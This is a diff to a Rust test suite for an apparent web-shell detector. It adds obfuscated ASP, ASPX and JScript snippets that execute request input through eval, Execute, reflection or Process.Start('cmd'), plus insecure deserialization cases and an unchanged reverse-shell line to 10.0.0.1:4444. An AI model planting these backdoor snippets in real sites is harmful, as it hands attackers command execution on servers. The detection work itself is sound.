@@ -71,6 +71,11 @@ fn words_hidden_in_jscript() {
         "var P=\"ev\"+\"al(Re\"+\"quest['a'])\";eval(P,\"un\"+\"safe\");",
         "var e=eval;e(Request.Headers[\"x\"]);",
         "new Function(\"a\",Request[\"b\"])();",
+        "var a;(a=Request.Item[\"x\"],eval(a,\"unsafe\"));",
+        "(function(){}).constructor(Request.Item[\"x\"])();",
+        "\"\"[\"constructor\"][\"constructor\"](Request.Item[\"x\"])();",
+        "try{throw Request.Item[\"x\"]}catch(e){eval(e,\"unsafe\")}",
+        "var e=\"xxevalxx\".substring(2,6);this[e](Request.Item[\"z\"]);",
         "var f=Function(\"r\",String(Request(\"b\")));f(Response);",
     ] {
         certain(&format!("<%@ Page Language=\"Jscript\"%><%{code}%>"), "x.aspx");
@@ -107,11 +112,13 @@ fn ways_of_csharp_beside_the_plain_ones() {
     for code in [
         "new System.Threading.Thread(() => { Process.Start(\"cmd\", Request[\"c\"]); }).Start();",
         "if (Request[\"c\"] is string s && s.Length > 0) Process.Start(s);",
+        "var d = new Dictionary<string, Action<string>> { { \"a\", z => Process.Start(\"cmd\", z) } }; d[\"a\"](Request[\"c\"]);",
         "switch ((object)Request[\"x\"]) { case string s when s.Length > 2: Process.Start(\"cmd\", s); break; }",
         "var f = (Func<string, Process>)Delegate.CreateDelegate(typeof(Func<string, Process>), typeof(Process), \"Start\"); f(Request[\"c\"]);",
         "Delegate d = new Func<string, string, Process>(Process.Start); d.DynamicInvoke(\"cmd\", Request[\"c\"]);",
         "var m = typeof(Process).GetMethods()[5]; m.Invoke(null, new object[] { \"cmd\", Request[\"c\"] });",
         "var m = typeof(Process).GetMethod(\"Start\"); Expression.Lambda<Action>(Expression.Call(m, Expression.Constant(Request[\"c\"]))).Compile()();",
+        "var p = Activator.CreateInstance(Type.GetType(\"System.Diagnostics.Process\")); var i = p.GetType().GetProperty(\"StartInfo\").GetValue(p, null); i.GetType().GetProperty(\"Arguments\").SetValue(i, Request[\"x\"], null); p.GetType().GetMethod(\"Start\", new Type[0]).Invoke(p, null);",
         "System.Threading.Thread.GetDomain().Load(Convert.FromBase64String(Request[\"a\"]));",
         "Process.Start(\"cmd\", Request.PathInfo);",
         "Process.Start(\"cmd\", Request.Form.Keys[0]);",
@@ -147,6 +154,8 @@ fn ways_of_basic_beside_the_plain_ones() {
         "<%Set r=New RegExp:r.Global=True:r.Pattern=\"#\":execute r.Replace(\"e#v#a#l r#equest(\"\"a\"\")\",\"\")%>",
         "<%Set x=GetObject(\"script:\"&request(\"u\"))%>",
         "<%Execute Request.ClientCertificate(\"Subject\")%>",
+        "<%Set x=Server.CreateObject(\"MSXML2.DOMDocument\"):x.load(Request):Execute x.selectSingleNode(\"//c\").text%>",
+        "<%Class X:Public Default Function G(a):Execute a:End Function:End Class:Set o=New X:o(Request(\"z\"))%>",
     ] {
         certain(page, "x.asp");
     }
@@ -172,6 +181,7 @@ fn files_that_a_visitor_fills() {
         "File.WriteAllText(\"c:\\\\t.cs\", Request[\"s\"]); new CSharpCodeProvider().CompileAssemblyFromFile(new CompilerParameters(), \"c:\\\\t.cs\");",
         "var t = new TcpClient(\"10.0.0.1\", 4444); var p = Process.Start(\"cmd\"); var r = new StreamReader(t.GetStream()); p.StandardInput.WriteLine(r.ReadLine());",
         "new JavaScriptSerializer(new SimpleTypeResolver()).DeserializeObject(Request[\"j\"]);",
+        "JsonConvert.DeserializeObject(Request[\"j\"], new JsonSerializerSettings { TypeNameHandling = TypeNameHandling.All });",
     ] {
         let page = sharp(code);
         assert!(grade(&page, "x.aspx") >= Grade::Likely, "{page}: {:?}", look(page.as_bytes(), "x.aspx"));
@@ -188,6 +198,7 @@ fn files_that_a_visitor_fills() {
     let log = sharp("File.WriteAllText(Server.MapPath(\"visits.txt\"), Request[\"title\"]);");
     assert!(grade(&log, "x.aspx") <= Grade::Context);
     assert_eq!(grade(&sharp("new JavaScriptSerializer().DeserializeObject(Request[\"j\"]);"), "x.aspx"), Grade::None);
+    assert_eq!(grade(&sharp("JsonConvert.DeserializeObject<Order>(Request[\"j\"]);"), "x.aspx"), Grade::None);
     let kept = sharp(
         "Request.Files[0].SaveAs(\"C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\\" + Request.Files[0].FileName);",
     );
@@ -247,6 +258,19 @@ fn other_files_that_servers_run() {
         ),
         Grade::Likely
     );
+}
+
+#[test]
+fn code_behind_a_page() {
+    certain(
+        "public partial class X : System.Web.UI.Page { protected TextBox T; protected void B_Click(object s, EventArgs e) { System.Diagnostics.Process.Start(\"cmd\", T.Text); } }",
+        "x.aspx.cs",
+    );
+    certain(
+        "Partial Class X\nInherits System.Web.UI.Page\nProtected Sub Page_Load(s As Object, e As EventArgs) Handles Me.Load\nProcess.Start(\"cmd\", Request(\"c\"))\nEnd Sub\nEnd Class",
+        "x.aspx.vb",
+    );
+    assert_eq!(grade("public class X { public string Name { get { return \"x\"; } } }", "App_Code/x.cs"), Grade::None);
 }
 
 #[test]
